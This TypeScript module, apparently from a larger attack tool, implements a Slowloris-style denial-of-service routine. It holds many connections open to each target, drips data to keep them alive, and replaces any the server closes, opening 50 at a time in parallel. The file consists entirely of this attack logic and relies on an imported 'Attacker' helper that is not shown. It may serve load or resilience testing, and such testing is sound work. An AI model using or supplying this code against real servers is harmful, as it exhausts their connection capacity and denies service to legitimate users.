import type { Socket } from "node:net";
import type { Address, Attacker } from "./attacker.ts";

export interface HoldOptions {
  readonly targets: readonly Address[];
  /** Number of connections to hold to each target. */
  readonly count: number;
  /** Text that is sent on each new connection. */
  readonly opening?: string;
  /** Text that is sent again and again, on one open connection after the other. */
  readonly drip?: string;
}

interface Slot {
  readonly target: Address;
  socket: Socket | undefined;
}

const OPENING_AT_ONCE = 50;

/**
 * Holds connections open, and replaces each one that the target closes. Each new connection and each drip takes a
 * turn.
 */
export async function holdConnections(attacker: Attacker, options: HoldOptions): Promise<void> {
  const { count, opening = "", drip = "" } = options;
  const targets = [...new Map(options.targets.map((target) => [target.port, target])).values()];
  const slots = targets.flatMap((target) =>
    Array.from({ length: count }, (): Slot => ({ target, socket: undefined })),
  );
  let turns = 0;
  await attacker.inParallel(OPENING_AT_ONCE, async () => {
    while (await attacker.turn()) {
      const slot = slots[turns++ % slots.length];
      if (!slot) return;
      if (slot.socket && !slot.socket.destroyed) {
        slot.socket.write(drip);
        continue;
      }
      slot.socket = (await attacker.open(slot.target))?.resume();
      slot.socket?.write(opening);
    }
  });
}
